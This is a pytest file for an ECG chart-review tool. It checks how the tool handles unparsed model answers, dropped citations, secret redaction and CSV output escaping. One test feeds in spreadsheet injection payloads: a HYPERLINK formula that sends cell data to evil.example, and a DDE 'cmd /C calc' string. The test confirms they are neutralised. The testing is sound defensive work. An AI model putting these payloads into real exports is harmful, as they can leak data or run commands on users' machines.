"""What a text reader answered, as the review outputs show it: unparsed answers, dropped citations, no secrets.

A real OpenAI-compatible server on 127.0.0.1 (tests/openai_server.py) answers with scripted text; the charts
are conftest's real pages. `workers=1`: one request at a time, so the scripted answers go to the charts in
their (sorted) order.
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from rag_ecg.errors import BackendError
from rag_ecg.review.run import review
from rag_ecg.review.outputs import csv_cell
from tests.openai_server import OpenAITestServer
from tests.rag_ecg.reader.test_report import GOOD_JSON, answer
from tests.rag_ecg.review.conftest import GOOD, fresh_store, rows_of

NOT_JSON = "I think this is sinus rhythm, but I cannot say more."
UNKNOWN_CASE = 987654  # never a case id of the test store


def _charts(review_env, folder: Path, n: int) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    names = []
    for rel, _, _ in GOOD[:n]:
        (folder / Path(rel).name).write_bytes((Path(review_env["charts"]) / rel).read_bytes())
        names.append(Path(rel).name)
    return sorted(names)


def _csv_rows(out: Path) -> dict[str, dict]:
    with open(out / "results.csv", newline="", encoding="utf-8") as f:
        return {r["chart"]: r for r in csv.DictReader(f)}


def _bad_citation_json() -> dict:
    bad = json.loads(json.dumps(GOOD_JSON))
    bad["rhythm"]["cited"] = []
    for part in bad["findings"] + bad["diagnoses"] + [bad["impression"]]:
        part["cited"] = []
    bad["findings"][0]["text"] = "Left axis deviation"
    bad["diagnoses"][1]["cited"] = [UNKNOWN_CASE]  # a case the retrieval did not return
    return bad


def test_unparsed_answers_and_dropped_citations_are_shown_and_retried_only_when_asked(review_env, tmp_path):
    pytest.importorskip("openai")
    a, b = _charts(review_env, tmp_path / "charts", 2)
    url = fresh_store(review_env, tmp_path)
    out = tmp_path / "out"
    # chart a: free text twice (the answer and the one retry) -> unparsed; chart b: JSON citing an unknown case
    with OpenAITestServer(replies=[NOT_JSON, NOT_JSON, answer(_bad_citation_json())]) as srv:
        opts = dict(base_url=srv.url, timeout_s=10.0, max_retries=0, backoff_s=0.01, max_tokens=64)
        s = review(tmp_path / "charts", out, store=url, index_dir=review_env["index"], backend="vllm",
                   backend_options=opts, workers=1, batch_size=4, progress=False)
        asked = len(srv.requests)
    assert (s.done, s.unparsed, s.error, s.pending) == (1, 1, 0, 0) and asked == 3
    rows = rows_of(out)
    assert rows[a]["status"] == "unparsed" and rows[a]["raw_answer"] == NOT_JSON
    assert "not a report" in rows[a]["error"] and rows[a]["error"].startswith(a)
    assert rows[b]["status"] == "done"
    assert rows[b]["dropped_citations"] == [{"where": "diagnoses[1]", "text": "inferior myocardial infarction",
                                             "unknown": [UNKNOWN_CASE]}]
    assert [d["code"] for d in rows[b]["diagnoses"]] == ["LAFB"]
    table = _csv_rows(out)
    assert table[a]["status"] == "unparsed" and table[a]["raw_answer"] == NOT_JSON
    assert table[b]["dropped_citations"] == f"diagnoses[1]: {UNKNOWN_CASE}"
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["counts"] == {"done": 1, "unparsed": 1, "error": 0, "pending": 0}
    page = (out / "index.html").read_text()
    assert 'data-status="unparsed"' in page and NOT_JSON in page
    assert "diagnoses[1]" in page and str(UNKNOWN_CASE) in page and "dropped" in page
    assert '<div class="count unparsed"><b>1</b>' in page

    # a re-run leaves the unparsed chart as it is (the job is finished) ...
    with OpenAITestServer(replies=[answer(GOOD_JSON)]) as srv:
        opts = {**opts, "base_url": srv.url}
        s = review(tmp_path / "charts", out, store=url, index_dir=review_env["index"], backend="vllm",
                   backend_options=opts, workers=1, batch_size=4, progress=False)
        assert (s.processed, s.unparsed, len(srv.requests)) == (0, 1, 0)
        # ... and --retry-errors asks the reader again
        s = review(tmp_path / "charts", out, store=url, index_dir=review_env["index"], backend="vllm",
                   backend_options=opts, workers=1, batch_size=4, progress=False, retry_errors=True)
        assert (s.processed, s.done, s.unparsed, len(srv.requests)) == (1, 2, 0, 1)
    assert rows_of(out)[a]["status"] == "done" and rows_of(out)[a]["raw_answer"] is None


def _files_holding(folder: Path, *needles: str) -> list[str]:
    return [str(p) for p in folder.rglob("*") if p.is_file()
            for n in needles if n.encode() in p.read_bytes()]


def test_secrets_never_reach_the_outputs_and_csv_cells_cannot_be_formulas(review_env, tmp_path):
    pytest.importorskip("openai")
    a, = _charts(review_env, tmp_path / "charts", 1)
    url = fresh_store(review_env, tmp_path)
    out = tmp_path / "out"
    secrets = ("sk-secret-4711", "p4ss-w0rd-xyz")

    def opts(srv) -> dict:
        return dict(base_url=srv.url.replace("http://", "http://alice:p4ss-w0rd-xyz@"), api_key="sk-secret-4711",
                    timeout_s=10.0, max_retries=0, backoff_s=0.01, max_tokens=64)

    with OpenAITestServer() as srv:  # down: the errors name the server, its password hidden
        srv.always_status = 500
        with pytest.raises(BackendError) as err:
            review(tmp_path / "charts", out, store=url, index_dir=review_env["index"], backend="vllm",
                   backend_options=opts(srv), workers=1, batch_size=4, progress=False)
    assert not any(s in str(err.value) for s in secrets) and "alice:***@127.0.0.1" in str(err.value)
    assert rows_of(out)[a]["status"] == "pending" and "alice:***@" in rows_of(out)[a]["error"]
    assert _files_holding(out, *secrets) == []

    formula = json.loads(json.dumps(GOOD_JSON))
    for part in [formula["rhythm"]] + formula["findings"] + formula["diagnoses"] + [formula["impression"]]:
        part["cited"] = []
    formula["findings"][0]["text"] = "Left axis deviation"
    formula["impression"]["text"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    formula["diagnoses"][0].update(code=None, superclass=None, label="+cmd|' /C calc'!A0")
    with OpenAITestServer(replies=[answer(formula)]) as srv:
        s = review(tmp_path / "charts", out, store=url, index_dir=review_env["index"], backend="vllm",
                   backend_options=opts(srv), workers=1, batch_size=4, progress=False)
        assert srv.requests and s.done == 1
    assert _files_holding(out, *secrets) == []
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["job"]["settings"]["review"]["backend_options"]["api_key"] == "***"
    row = _csv_rows(out)[a]
    assert row["impression"] == "'" + formula["impression"]["text"]  # shown as text by a spreadsheet
    assert row["top_diagnosis"] == "'+cmd|' /C calc'!A0" and row["diagnoses"].startswith("'+cmd")
    assert rows_of(out)[a]["impression"] == formula["impression"]["text"]  # JSONL keeps the raw text


def test_a_negative_number_stays_a_number_in_the_csv():
    """A left axis of -30° is a number to the spreadsheet, not a formula: only formula-like text gets the quote."""
    assert [csv_cell(v) for v in ("-30", "-2.5", "12", "-")] == ["-30", "-2.5", "12", "'-"]
    assert [csv_cell(v) for v in ("-1+1", "-30 deg", "=1", "+7", "@x")] == ["'-1+1", "'-30 deg", "'=1", "'+7", "'@x"]
